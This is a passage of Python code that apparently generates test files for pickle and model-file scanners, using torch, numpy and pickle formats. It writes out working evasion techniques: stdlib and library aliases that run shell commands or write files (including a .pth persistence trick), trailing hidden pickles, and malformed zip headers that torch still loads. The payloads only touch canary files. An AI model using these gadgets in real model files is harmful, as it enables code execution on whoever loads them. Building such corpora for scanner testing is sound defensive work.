    for member, label in (("weights.bin", "no_npy_suffix"), ("arr_1.NPY", "upper_case_suffix")):
        name = f"npz_member_{label}"
        value, expect = payload(canary(name), "subprocess")
        npy, _ = npy_object(program(3, value)[0])
        add(name, zip_file([Member("arr_0.npy", np_zero_npy()), Member(member, npy)]), "numpy",
            "member-sniffing", expect, suffix=".npz", note=f"np.load(...)[{member!r}] unpickles it")


def _stdlib_aliases(add: Any, canary: Any) -> None:
    def alias(name: str, func: G, args: tuple, loader: str = "pickle", protocol: int = 4) -> None:
        data = program(protocol, Call(func, args), frame=False)[0]
        if loader == "torch":
            data = zip_file(torch_members(data))
        add(name, data, loader, "stdlib-alias", f"{func.module}.{func.name}",
            suffix=".pt" if loader == "torch" else ".pkl")

    c = canary
    alias("alias_random_os_system", G("random", "_os.system"), (f"touch {c('alias_random_os_system')}",))
    alias("alias_uuid_get_command_stdout", G("uuid", "_get_command_stdout"),
          ("touch", str(c("alias_uuid_get_command_stdout"))))
    alias("alias_osx_support_read_output", G("_osx_support", "_read_output"),
          (f"touch {c('alias_osx_support_read_output')}",))
    alias("alias_pyio_open", G("_pyio", "open"), (str(c("alias_pyio_open")), "w"))
    alias("alias_codecs_open", G("codecs", "open"), (str(c("alias_codecs_open")), "w"))
    alias("alias_bz2_file", G("bz2", "BZ2File"), (str(c("alias_bz2_file")), "w"))
    alias("alias_gzip_file", G("gzip", "GzipFile"), (str(c("alias_gzip_file")), "w"))
    alias("alias_logging_file_handler", G("logging", "FileHandler"), (str(c("alias_logging_file_handler")),))
    alias("alias_timeit", G("timeit", "timeit"), ("pass", f"open({str(c('alias_timeit'))!r}, 'w').close()"))
    alias("alias_cprofile_run", G("cProfile", "run"), (f"open({str(c('alias_cprofile_run'))!r}, 'w').close()",))
    alias("alias_imaplib_stream", G("imaplib", "IMAP4_stream"), (f"touch {c('alias_imaplib_stream')}",))
    alias("alias_pydoc_pipepager", G("pydoc", "pipepager"), ("", f"touch {c('alias_pydoc_pipepager')}"))
    alias("alias_torch_collect_env_run", G("torch.utils.collect_env", "run"),
          (f"touch {c('alias_torch_collect_env_run')}",), loader="torch", protocol=2)


def _library_aliases(add: Any, canary: Any) -> None:
    """Installed libraries' functions that create or overwrite a file of the pickle's choosing
    (with numpy's tofile, with bytes of its choosing too: a .pth file in site-packages runs
    code at the next interpreter start)."""
    def alias(name: str, func: G, args: tuple, loader: str = "pickle") -> None:
        data = program(4, Call(func, args), frame=False)[0]
        if loader == "torch":
            data = zip_file(torch_members(data))
        add(name, data, loader, "library-alias", f"{func.module}.{func.name}",
            suffix=".pt" if loader == "torch" else ".pkl")

    c = canary
    u1 = Call(G("numpy", "dtype"), ("u1",))
    alias("alias_numpy_ndarray_tofile", G("numpy", "ndarray.tofile"), (
        Call(G("numpy._core.numeric", "_frombuffer"), (b"canary", u1, (6,), "C")),
        str(c("alias_numpy_ndarray_tofile"))))
    alias("alias_click_open_file", G("click", "open_file"), (str(c("alias_click_open_file")), "w"))
    alias("alias_safetensors_save_file", G("safetensors.numpy", "save_file"),
          ({}, str(c("alias_safetensors_save_file"))))
    alias("alias_torch_untyped_storage_from_file", G("torch", "UntypedStorage.from_file"),
          (str(c("alias_torch_untyped_storage_from_file")), True, 1), loader="torch")


def _stream_tail(add: Any, canary: Any) -> None:
    # pickle.load reads the benign first pickle, then the second one runs its call and breaks
    benign = pickle.dumps({"w": 1}, protocol=2)
    for label, func, args in (
            ("os_system", G("os", "system"), ("touch {}",)),
            ("click_open_file", G("click", "open_file"), ("{}", "w"))):
        name = f"stream_tail_breaks_after_{label}"
        args = tuple(a.format(canary(name)) for a in args)
        data = benign + proto(2) + ops(Call(func, args)) + b"\xff"
        add(name, data, "pickle", "stream-tail", f"{func.module}.{func.name}", suffix=".pkl",
            note="no STOP: byte 0xff is no opcode")


def _zip_flags(add: Any, canary: Any) -> None:
    name = "torch_zip_bad_crc"
    value, expect = payload(canary(name))
    add(name, zip_file(torch_members(program(2, value)[0], crc=0x12345678)), "torch", "zip-flags", expect,
        suffix=".pt", note="torch does not check CRCs")

    name = "torch_zip_encrypted_local_only"
    value, expect = payload(canary(name), "subprocess")
    add(name, zip_file(torch_members(program(2, value)[0], local_flags=1)), "torch", "zip-flags", expect,
        suffix=".pt", note="encrypted bit in the local header only: miniz reads the central one")

    name = "torch_zip_encrypted_central"
    value, expect = payload(canary(name), "posix")
    add(name, zip_file(torch_members(program(2, value)[0], local_flags=1, central_flags=1)), "torch",
        "zip-flags", expect, suffix=".pt", runs=False,
        note="encrypted bit in the central directory: torch 2.13 refuses the archive")
